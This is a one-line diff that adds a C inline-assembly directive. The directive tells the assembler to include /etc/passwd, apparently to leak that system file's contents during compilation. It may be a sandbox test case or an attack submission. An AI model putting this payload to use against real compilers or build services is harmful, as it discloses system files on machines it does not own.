@@ -1,0 +1,1 @@
+__asm__(".include \"/etc/passwd\"\n");
